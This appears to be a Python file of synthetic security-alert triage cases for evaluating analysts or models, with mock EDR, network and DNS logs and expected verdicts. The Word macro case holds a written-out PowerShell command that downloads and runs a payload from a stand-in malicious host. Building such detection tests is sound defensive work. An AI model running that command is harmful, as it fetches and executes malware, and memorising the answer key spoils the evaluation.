"""Synthetic endpoint and network scenarios."""

# ruff: noqa: E501  (scenario data: long literal strings read better whole)

from __future__ import annotations

from scripts.eval_pack.common import Case, at, siem_rule
from scripts.eval_pack.tables import asset, assets, conn, dns, dns_log, edr, flows, proc, spread

T0 = "2025-11-05T08:00:00Z"


def endpoint() -> list[Case]:
    jump = "JUMP-ADM-01"
    return [
        Case(
            id="edr-psexec-patch-rollout",
            title="PsExec from the admin jump host to 30 servers",
            category="endpoint",
            verdict="benign",
            accept=["false_positive"],
            severity=("info", "low"),
            alert=siem_rule(
                title="PsExec remote service execution across many hosts",
                severity="high",
                when=at(T0, 72000),
                host=jump,
                user="CORP\\adm-tkeller",
                product="EDR behaviour rule",
            ),
            tables=[
                edr(
                    jump,
                    spread(
                        at(T0, 72000),
                        30,
                        20,
                        lambda i, w: proc(
                            w,
                            jump,
                            "CORP\\adm-tkeller",
                            "C:\\Tools\\PsExec64.exe",
                            f"PsExec64.exe \\\\SRV-APP-{i:02d} -s C:\\Patch\\install-kb5044284.cmd",
                            "C:\\Windows\\System32\\cmd.exe",
                        ),
                    ),
                )
            ],
            must=["adm-tkeller", "kb5044284"],
            forbidden=["lateral movement by an attacker"],
        ),
        Case(
            id="edr-defender-lsass-access",
            title="LSASS opened by the antivirus engine",
            category="endpoint",
            verdict="false_positive",
            accept=["benign"],
            severity=("info", "low"),
            alert=siem_rule(
                title="Process accessed LSASS memory",
                severity="high",
                when=at(T0, 3600),
                host="WS-FIN-22",
                product="Sysmon detection rule",
                details={
                    "source_image": "C:\\ProgramData\\Microsoft\\Windows Defender"
                    "\\Platform\\4.18.24090.11-0\\MsMpEng.exe",
                    "granted_access": "0x1010",
                },
            ),
            tables=[
                edr(
                    "WS-FIN-22",
                    [
                        proc(
                            at(T0, 3600 + i),
                            "WS-FIN-22",
                            "NT AUTHORITY\\SYSTEM",
                            "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MsMpEng.exe",
                            "",
                            "C:\\Windows\\System32\\services.exe",
                            event_id=10,
                            target_image="C:\\Windows\\system32\\lsass.exe",
                            granted_access="0x1010",
                        )
                        for i in range(3)
                    ],
                )
            ],
            must=["MsMpEng.exe", "0x1010"],
            forbidden=["mimikatz", "credential dumping occurred"],
        ),
        Case(
            id="edr-sccm-encoded-powershell",
            title="Encoded PowerShell started by the SCCM client",
            category="endpoint",
            verdict="benign",
            accept=["false_positive"],
            severity=("info", "low"),
            alert=siem_rule(
                title="PowerShell with an encoded command",
                severity="medium",
                when=at(T0, 5000),
                host="WS-HR-07",
                product="Sysmon detection rule",
            ),
            tables=[
                edr(
                    "WS-HR-07",
                    [
                        proc(
                            at(T0, 5000),
                            "WS-HR-07",
                            "NT AUTHORITY\\SYSTEM",
                            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                            "powershell.exe -NoProfile -EncodedCommand RwBlAHQALQBDAGkAbQBJAG4AcwB0AGEAbgBjAGUAIAB3AGkAbgAzADIAXwBiAGkAbwBzAA==",
                            "C:\\Windows\\CCM\\CcmExec.exe",
                        )
                    ],
                )
            ],
            must=["CcmExec.exe", "Get-CimInstance win32_bios"],
            forbidden=["malware"],
        ),
        Case(
            id="edr-word-macro-dropper",
            title="Word spawned PowerShell that downloaded a payload",
            category="endpoint",
            verdict="true_positive",
            severity=("high", "critical"),
            alert=siem_rule(
                title="Office application spawned a scripting engine",
                severity="high",
                when=at(T0, 9000),
                host="WS-SALES-03",
                user="CORP\\e.martin",
                product="EDR behaviour rule",
            ),
            tables=[
                edr(
                    "WS-SALES-03",
                    [
                        proc(
                            at(T0, 8990),
                            "WS-SALES-03",
                            "CORP\\e.martin",
                            "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
                            'WINWORD.EXE /n "C:\\Users\\e.martin\\Downloads\\Invoice_4471.docm"',
                            "C:\\Windows\\explorer.exe",
                        ),
                        proc(
                            at(T0, 9000),
                            "WS-SALES-03",
                            "CORP\\e.martin",
                            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                            'powershell -w hidden -c "iwr http://cdn-docs-share.top/a.png -OutFile $env:TEMP\\upd.exe; & $env:TEMP\\upd.exe"',
                            "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
                        ),
                        proc(
                            at(T0, 9004),
                            "WS-SALES-03",
                            "CORP\\e.martin",
                            "C:\\Users\\e.martin\\AppData\\Local\\Temp\\upd.exe",
                            "upd.exe",
                            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                        ),
                        proc(
                            at(T0, 9010),
                            "WS-SALES-03",
                            "CORP\\e.martin",
                            "C:\\Users\\e.martin\\AppData\\Local\\Temp\\upd.exe",
                            "",
                            "",
                            event_id=3,
                            destination_ip="79.124.59.202",
                            destination_port=8443,
                        ),
                    ],
                )
            ],
            intel=[
                {
                    "indicator": "cdn-docs-share.top",
                    "services": {
                        "virustotal": {
                            "found": True,
                            "flagged": True,
                            "malicious": 14,
                            "suspicious": 2,
                            "categories": ["malware"],
                        }
                    },
                }
            ],
            must=["Invoice_4471.docm", "cdn-docs-share.top", "upd.exe", "79.124.59.202"],
            techniques=["T1204.002"],
            forbidden=["benign"],
        ),
    ]


def network() -> list[Case]:
    scanner = "10.20.0.15"
    beacon = "45.137.21.9"
    return [
        Case(
            id="ids-internal-vuln-scanner",
            title="Nmap scan detected from the Nessus scanner",
            category="network",
            verdict="benign",
            accept=["false_positive"],
            severity=("info", "low"),
            alert=siem_rule(
                title="ET SCAN Nmap Scripting Engine User-Agent Detected",
                severity="medium",
                when=at(T0, 7200),
                product="Suricata IDS",
                details={
                    "src_ip": scanner,
                    "dest_ip": "10.20.4.31",
                    "dest_port": 80,
                    "signature_id": 2009358,
                },
            ),
            tables=[
                flows(
                    spread(
                        at(T0, 7100),
                        40,
                        3,
                        lambda i, w: conn(
                            w,
                            scanner,
                            f"10.20.4.{i + 1}",
                            [22, 80, 443, 3389][i % 4],
                            out=60,
                            inn=0,
                            dur=0.01,
                            service=None,
                        ),
                    )
                ),
                assets(
                    [
                        asset(
                            scanner,
                            "nessus-01",
                            "security",
                            "vulnerability scanner",
                            "weekly authenticated scan, Tuesdays 09:00-12:00 UTC",
                        ),
                        asset("10.20.4.31", "app-31", "platform", "web server"),
                    ]
                ),
            ],
            must=["nessus-01", scanner],
            forbidden=["attacker", "compromised"],
        ),
        Case(
            id="dns-tunnelling-txt",
            title="Long TXT queries to one domain from a workstation",
            category="network",
            verdict="true_positive",
            severity=("medium", "critical"),
            alert=siem_rule(
                title="Possible DNS tunnelling: high-entropy subdomains",
                severity="medium",
                when=at(T0, 3000),
                host="WS-ENG-12",
                product="DNS analytics",
                details={"domain": "t1.exfil-cdn.net"},
            ),
            tables=[
                dns_log(
                    [
                        *spread(
                            at(T0, 2400),
                            60,
                            10,
                            lambda i, w: dns(
                                w,
                                "10.1.4.22",
                                f"{'a3f9c0d1e7b2' * 4}{i:04x}.t1.exfil-cdn.net",
                                "TXT",
                            ),
                        ),
                        dns(at(T0, 2300), "10.1.4.22", "outlook.office365.com", "A", "52.97.146.2"),
                    ]
                ),
                assets([asset("10.1.4.22", "WS-ENG-12", "engineering", "workstation")]),
            ],
            must=["t1.exfil-cdn.net", "10.1.4.22", "WS-ENG-12"],
            techniques=["T1071.004"],
            forbidden=["benign"],
        ),
        Case(
            id="c2-beacon-known-bad",
            title="Regular 60-second beacon to a flagged IP",
            category="network",
            verdict="true_positive",
            severity=("high", "critical"),
            alert=siem_rule(
                title="Periodic outbound connections (beaconing)",
                severity="high",
                when=at(T0, 4000),
                product="NDR",
                details={"src_ip": "10.1.9.40", "dest_ip": beacon},
            ),
            tables=[
                flows(
                    spread(
                        at(T0, 600),
                        60,
                        60,
                        lambda i, w: conn(
                            w, "10.1.9.40", beacon, 443, out=412, inn=1380, dur=0.4, sport=50000 + i
                        ),
                    )
                ),
                assets([asset("10.1.9.40", "WS-OPS-09", "operations", "workstation")]),
            ],
            intel=[
                {
                    "indicator": beacon,
                    "services": {
                        "abuseipdb": {
                            "found": True,
                            "flagged": True,
                            "abuse_confidence_score": 93,
                            "total_reports": 211,
                            "country": "NL",
                        }
                    },
                }
            ],
            must=[beacon, "WS-OPS-09", "60"],
            techniques=["T1071.001"],
            forbidden=["benign"],
        ),
        Case(
            id="nightly-offsite-backup-upload",
            title="180 GB upload from the backup server",
            category="network",
            verdict="benign",
            accept=["false_positive"],
            severity=("info", "low"),
            alert=siem_rule(
                title="Large outbound data transfer",
                severity="high",
                when=at(T0, -25000),
                product="NDR",
                details={"src_ip": "10.3.0.5", "dest_ip": "206.190.215.16", "bytes": 193273528320},
            ),
            tables=[
                flows(
                    [
                        conn(
                            at(T0, -25000 - 86400 * d),
                            "10.3.0.5",
                            "206.190.215.16",
                            443,
                            out=180_000_000_000 + d * 1_000_000_000,
                            inn=40_000_000,
                            dur=9800.0,
                        )
                        for d in range(7)
                    ]
                ),
                assets(
                    [
                        asset(
                            "10.3.0.5",
                            "backup-01",
                            "infrastructure",
                            "backup server",
                            "nightly offsite copy to Backblaze B2 (us-west-004) 01:00 UTC",
                        )
                    ]
                ),
            ],
            must=["backup-01", "Backblaze"],
            forbidden=["exfiltration by an attacker"],
        ),
        Case(
            id="ids-windows-update-useragent",
            title="Suspicious user agent on Windows Update traffic",
            category="network",
            verdict="false_positive",
            accept=["benign"],
            severity=("info", "low"),
            alert=siem_rule(
                title="ET POLICY Suspicious User-Agent (Microsoft-Delivery-Optimization)",
                severity="medium",
                when=at(T0, 1000),
                product="Suricata IDS",
                details={
                    "src_ip": "10.1.5.60",
                    "dest_ip": "13.107.4.50",
                    "http_host": "7.tlu.dl.delivery.mp.microsoft.com",
                },
            ),
            tables=[
                flows(
                    spread(
                        at(T0, 900),
                        6,
                        30,
                        lambda i, w: conn(
                            w,
                            "10.1.5.60",
                            "13.107.4.50",
                            80,
                            out=900,
                            inn=2_400_000,
                            service="http",
                        ),
                    )
                ),
                dns_log(
                    [
                        dns(
                            at(T0, 890),
                            "10.1.5.60",
                            "7.tlu.dl.delivery.mp.microsoft.com",
                            "A",
                            "13.107.4.50",
                        )
                    ]
                ),
            ],
            must=["delivery.mp.microsoft.com", "13.107.4.50"],
            forbidden=["malware", "c2"],
        ),
        Case(
            id="rdp-bruteforce-then-logon",
            title="RDP brute force from the internet, then a logon",
            category="network",
            verdict="true_positive",
            severity=("high", "critical"),
            alert=siem_rule(
                title="Many RDP connections from one external address",
                severity="high",
                when=at(T0, 2000),
                product="Firewall analytics",
                details={"src_ip": "194.165.16.72", "dest_ip": "10.5.0.8", "dest_port": 3389},
            ),
            tables=[
                flows(
                    spread(
                        at(T0, 0),
                        120,
                        15,
                        lambda i, w: conn(
                            w,
                            "194.165.16.72",
                            "10.5.0.8",
                            3389,
                            out=2100,
                            inn=1900,
                            dur=1.5,
                            service="rdp",
                            sport=40000 + i,
                        ),
                    )
                ),
                edr(
                    "TS-LEGACY-01",
                    [
                        proc(
                            at(T0, 1795),
                            "TS-LEGACY-01",
                            "TS-LEGACY-01\\backup",
                            "C:\\Windows\\System32\\rdpclip.exe",
                            "rdpclip",
                            "C:\\Windows\\System32\\svchost.exe",
                            logon_type=10,
                            source_ip="194.165.16.72",
                        )
                    ],
                ),
                assets(
                    [
                        asset(
                            "10.5.0.8",
                            "TS-LEGACY-01",
                            "finance",
                            "terminal server",
                            "exposed on 3389 for a legacy vendor",
                        )
                    ]
                ),
            ],
            must=["194.165.16.72", "TS-LEGACY-01", "backup"],
            techniques=["T1110.001"],
            forbidden=["benign"],
        ),
    ]
